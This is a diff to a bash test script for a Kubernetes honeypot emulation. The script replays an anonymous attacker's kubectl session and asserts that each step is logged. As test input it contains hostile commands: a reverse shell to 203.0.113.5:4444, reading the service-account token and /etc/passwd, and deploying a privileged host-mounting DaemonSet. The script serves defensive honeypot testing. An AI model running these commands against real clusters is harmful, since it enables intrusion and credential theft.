@@ -1,10 +1,10 @@
 #!/usr/bin/env bash
-# kubectl (Debian's kubernetes-client, 1.20; newer ones pass too: 1.32 writes objects as protobuf
-# and runs exec over WebSocket first, then SPDY) against the Kubernetes emulation over TLS, as an attacker
+# kubectl (Debian's kubernetes-client, 1.20, exec over SPDY; newer ones pass too: 1.32 writes
+# objects as protobuf and runs exec over WebSocket, v5.channel.k8s.io) against the Kubernetes emulation over TLS, as an attacker
 # with anonymous access uses it: discovery, listing pods, secrets, nodes and namespaces in every
 # namespace, reading a secret, `auth can-i`, `run`, `create deployment`, `apply` of a privileged
 # host-mounting DaemonSet (with kubectl's openapi validation), the created objects shown back in
-# later lists, `delete`. Asserts what kubectl printed and the events logged for each step.
+# later lists and in a watch held open, `delete`, exec over SPDY or WebSocket. Asserts what kubectl printed and the events logged for each step.
 set -euo pipefail
 . "$(dirname "$0")/honeypot_lib.bash"
 need kubectl "apt-get install kubernetes-client"
@@ -67,6 +67,20 @@ out=$(kc exec web-7d4b9c6f5d-x2lqp -- sh -c 'cat /var/run/secrets/kubernetes.io/
 echo "$out" | has '^eyJ' || fail "exec output: $out"
 out=$(printf 'id\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' | kc exec -i web-7d4b9c6f5d-x2lqp -- sh) || fail "exec -i"
 echo "$out" | has '^uid=0(root)' || fail "exec -i output: $out"
+# watch: kubectl get -w lists, then holds a watch open; a pod the same source starts meanwhile
+# shows up in it. A watch without resourceVersion starts with every object as ADDED.
+kc get pods -w --request-timeout=5s >"$W/watch.out" 2>&1 & wpid=$!
+kc run watched --image=alpine:3.19 -- sleep 1d | has 'pod/watched created' || fail "run while watching"
+wait "$wpid" || fail "get -w: $(cat "$W/watch.out")"
+has -E '^web-7d4b9c6f5d-x2lqp +1/1 +Running' "$W/watch.out" || fail "get -w list: $(cat "$W/watch.out")"
+has -E '^watched ' "$W/watch.out" || fail "pod created while watching not shown: $(cat "$W/watch.out")"
+curl -sk --max-time 20 "https://127.0.0.1:$K/api/v1/namespaces/kube-system/pods?watch=1&timeoutSeconds=1" >"$W/watch.json" || fail "watch=1"
+[ "$(jq -r 'select(.type=="ADDED") | .object.metadata.name' "$W/watch.json" | paste -sd,)" = \
+  "$(kc get pods -n kube-system -o name | sed 's|^pod/||' | paste -sd,)" ] || fail "watch=1 events: $(cat "$W/watch.json")"
+# WebSocket as kubectl does not speak it: v4.channel.k8s.io, a stdin line split over fragments
+# with a ping between them, the close handshake
+out=$(timeout 20 python3 "$(dirname "$0")/honeypot_ws.py" "$K" web-7d4b9c6f5d-x2lqp) || fail "WebSocket v4: $out"
+echo "$out" | has '^root:x:0:0:root:/root:' || fail "WebSocket v4 output: $out"
 hp_stop
 
 [ "$(hp_count '.eventid=="kube.discovery" and .request.path=="/apis"')" -ge 1 ] || fail "discovery not logged"
@@ -79,9 +93,18 @@ hp_stop
   || fail "daemonset event"
 [ "$(hp_count '.eventid=="kube.workload.create" and .request.kind=="deployments" and .request.images==["nginx:1.25"]')" = 1 ] || fail "deployment event"
 [ "$(hp_count '.eventid=="kube.pod.delete" and .request.name=="miner"')" = 1 ] || fail "delete event"
+[ "$(hp_count '.eventid=="kube.pod.watch" and ((.request.query // "")|test("watch=true"))')" -ge 1 ] || fail "watch event"
 # kubectl >= 1.29 asks for WebSocket first, then SPDY: one event per attempt
 [ "$(hp_count '.eventid=="kube.exec" and .request.pod=="web-7d4b9c6f5d-x2lqp" and .request.command[0]=="sh" and ((.request.command[2] // "")|test("serviceaccount/token"))')" -ge 1 ] \
   || fail "exec event"
 [ "$(hp_count '.eventid=="kube.stdin" and .request.pod=="web-7d4b9c6f5d-x2lqp" and .request.line=="id"')" = 1 ] || fail "stdin line 1"
 [ "$(hp_count '.eventid=="kube.stdin" and ((.request.line // "")|test("/dev/tcp/203.0.113.5"))')" = 1 ] || fail "stdin line 2"
+[ "$(hp_count '.eventid=="kube.stdin" and .request.line=="cat /etc/passwd"')" = 1 ] || fail "fragmented stdin line"
+[ "$(hp_count '.eventid=="kube.exec" and .request.websocket_protocol=="v4.channel.k8s.io, base64.channel.k8s.io"')" = 1 ] || fail "v4 exec event"
+# kubectl >= 1.30 asks for v5.channel.k8s.io first and, granted it, never falls back to SPDY
+minor=$(kubectl version --client -o json 2>/dev/null | jq -r '.clientVersion.minor' | tr -dc 0-9)
+if [ "${minor:-0}" -ge 30 ]; then
+  [ "$(hp_count '.eventid=="kube.exec" and .request.upgrade=="websocket" and .request.websocket_protocol=="v5.channel.k8s.io"')" = 2 ] || fail "WebSocket exec events"
+  [ "$(hp_count '.eventid=="kube.exec" and ((.request.upgrade // "")|test("SPDY"))')" = 0 ] || fail "SPDY fallback after WebSocket"
+fi
 echo "ok: kubectl $(hp_count '.service=="kube" and (.eventid|startswith("session.")|not)') steps logged"
